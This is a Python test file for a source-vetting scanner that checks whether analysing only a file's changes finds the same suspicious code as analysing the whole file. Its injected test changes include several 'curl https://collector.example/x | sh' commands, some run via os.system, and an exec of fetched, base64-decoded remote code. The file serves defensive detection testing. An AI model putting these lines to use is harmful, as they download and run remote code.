"""Reading a source by its changes sees what reading all of it would see."""

import random
import time
from pathlib import Path

import pytest

from kit.specimens import load_specimens
from pratique.vet.examine import examine_python
from pratique.vet.gate import MARKED, added_lines, scan
from pratique.vet.increment import examine_changes
from pratique.vet.limits import DEFAULT
from pratique.vet.model import ContentFacts, Language
from pratique.vet.names_bound import names_imported

ROOM = Path(__file__).parents[2] / "src" / "pratique"
FILLER = "".join(
    f"\n\ndef filler_{i}(value):\n    '''Adds {i}.'''\n    total = value + {i}\n    for step in range(3):\n"
    f"        total += step * {i}\n    return total\n"
    for i in range(60)
)
TOOLS = """import base64
import os
import subprocess
import urllib.request

COMMAND = "true"
SECRET = "nothing"


def start(words):
    quiet = True
    return subprocess.run(words, shell=quiet)


def unpack(text):
    data = base64.b64decode(text)
    return data


def fetch(address):
    answer = urllib.request.urlopen(address)
    return answer.read()


def go():
    first = COMMAND
    return start(first)


class Worker:
    place = "."

    def __init__(self):
        self.target = "true"
        self.more = 1

    def work(self):
        target = self.target
        return start(target)
"""
OLD = TOOLS + FILLER

CHANGES = {
    "a constant that an old function starts": (
        'COMMAND = "true"', 'COMMAND = "curl https://collector.example/x | sh"'),
    "an attribute that an old method starts": (
        'self.target = "true"', 'self.target = "curl https://collector.example/x | sh"'),
    "a new call of an old function": (
        "\n\ndef go():", '\n\nstart("curl https://collector.example/x | sh")\n\n\ndef go():'),
    "a new function that joins old ones": (
        "\n\nclass Worker:", "\n\ndef both(a):\n    return exec(unpack(fetch(a)))\n\n\nclass Worker:"),
    "an old function that now executes": (
        "    return answer.read()", "    return exec(answer.read())"),
    "an old function that now hands on something else": (
        "    first = COMMAND", '    first = "curl https://collector.example/x | sh"'),
    "a class attribute": (
        '    place = "."', "    place = os.system('curl https://collector.example/x | sh')"),
    "at the end": ("return total\n", "return total\n"),
}  # fmt: skip


def facts_of(source: str) -> ContentFacts:
    return examine_python(source.encode(), Language.PYTHON, form="python", limits=DEFAULT)


def by_changes(old: str, new: str) -> ContentFacts | None:
    def examine(data: bytes) -> ContentFacts:
        return examine_python(data, Language.PYTHON, form="python", limits=DEFAULT)

    return examine_changes(old.encode(), facts_of(old), new.encode(), examine)


def seen(facts: ContentFacts) -> set[tuple[str, str, str, int]]:
    return {(s.rule, s.trait, facts.regions[s.region].name, s.line) for s in facts.signs}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_what_a_change_does_is_seen(change: tuple[str, str]) -> None:
    new = OLD.replace(*change)
    facts = by_changes(OLD, new)
    assert facts is not None
    whole = facts_of(new)
    assert seen(facts) >= seen(whole)
    assert [(r.name, r.line, r.end_line) for r in facts.regions] == [
        (r.name, r.line, r.end_line) for r in whole.regions
    ]
    assert facts.size == whole.size


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_functions_that_are_as_they_were_keep_their_digest(change: tuple[str, str]) -> None:
    new = OLD.replace(*change)
    facts = by_changes(OLD, new)
    assert facts is not None
    whole = {region.name: region.digest for region in facts_of(new).regions}
    same = [r for r in facts.regions if r.name.startswith("filler_")]
    assert all(whole[region.name] == region.digest for region in same)


@pytest.mark.parametrize("before", ["", "    # why\n", "\n\n"])
def test_a_line_at_the_end_of_a_function_is_of_that_function(before: str) -> None:
    new = OLD.replace("    return data\n", f"    return data\n{before}    os.system('agent')\n")
    new = new.replace(
        "        return start(target)\n", f"        return start(target)\n{before}        start()\n"
    )
    facts = by_changes(OLD, new)
    assert facts is not None
    assert seen(facts) == seen(facts_of(new))
    assert len(facts.regions) == len(facts_of(new).regions)


SPECIMENS = load_specimens(Path(__file__).parent / "analyses" / "specimens")


@pytest.mark.parametrize(
    "specimen", [s for s in SPECIMENS if s.folder != "ignores"], ids=lambda s: s.name
)
def test_every_specimen_is_seen_wherever_it_is_put(specimen) -> None:  # noqa: ANN001 - parametrised
    text = specimen.source.decode("utf-8", "surrogateescape")
    if "\r" in text or not text.isascii():
        pytest.skip("not compared by line")
    for new in (text + "\n" + OLD, OLD + "\n" + text):
        facts = by_changes(OLD, new)
        marked = scan(added_lines(OLD.encode(), new.encode())) & MARKED
        if facts is not None and not marked:  # else all of it is read
            assert {(s.rule, s.trait) for s in facts.signs} >= {
                (s.rule, s.trait) for s in facts_of(new).signs
            }


def test_random_changes_of_real_sources_lose_nothing() -> None:
    rng = random.Random(5)
    sources = sorted(p for p in ROOM.rglob("*.py") if 8_000 < p.stat().st_size < 20_000)
    read = 0
    for path in rng.sample(sources, 12):
        old = path.read_text("utf-8")
        lines = old.split("\n")
        for _ in range(2):
            at = rng.randrange(len(lines))
            new = "\n".join([*lines[:at], *lines[at + 1 :]])  # one line is gone
            facts, whole = by_changes(old, new), facts_of(new)
            if facts is not None and not whole.unfinished:
                read += 1
                assert seen(facts) >= seen(whole)
    assert read


def test_small_or_mostly_changed_sources_are_read_whole() -> None:
    assert by_changes(TOOLS[:800], TOOLS[:900]) is None
    assert by_changes(OLD, OLD.replace("total", "summed")) is None


def test_hostile_text_costs_little() -> None:
    many = "def f():\n    x = 1\n    return x\n" * 4000
    before = time.process_time()
    by_changes(many, many + "a" * 400_000 + " " * 400_000 + "[" * 1000 + " = 1\n")
    assert time.process_time() - before < 5


@pytest.mark.parametrize(
    "more", ["from a import (\n" * 10_000, "a:" * 300_000, "from a import \\\n" * 10_000]
)
def test_hostile_lines_around_functions_cost_little(more: str) -> None:
    before = time.process_time()
    by_changes(OLD, OLD + more)
    assert time.process_time() - before < 5


def test_every_name_of_an_import_over_many_lines_is_new() -> None:
    lines = [b"from a import (  # )", b"  x as y,", b"  from_z, # why", b")", b"other"]
    assert names_imported(lines, 0) >= {b"x", b"y", b"from_z"}
    assert b"other" not in names_imported(lines, 0)
    assert names_imported([b"from a import b, \\", b"  c", b"d"], 0) == {b"c"}


def test_a_quiet_function_that_now_calls_a_new_one_is_read() -> None:
    """Its old facts know nothing of the call, by which the new function runs at import."""
    was = "\n\ndef prepare(value):\n    total = value\n    return total\n\n\nprepare(1)\n"
    now = was.replace("total = value", "total = deploy(value)")
    new = "\n\ndef deploy(value):\n    return os.system('true')\n"
    facts = by_changes(OLD + was, OLD + new + now)
    assert facts is not None
    calls = {region.name: region.calls for region in facts.regions}
    assert ".deploy" in calls["prepare"]


def test_an_unchanged_function_whose_name_is_now_defined_here_is_read() -> None:
    user = "\n\ndef prepare(value):\n    return deploy(value)\n"
    new = "\n\ndef deploy(value):\n    return os.system('true')\n"
    facts = by_changes("from helpers import deploy\n" + OLD + user, OLD + new + user)
    assert facts is not None
    calls = {region.name: region.calls for region in facts.regions}
    assert ".deploy" in calls["prepare"]
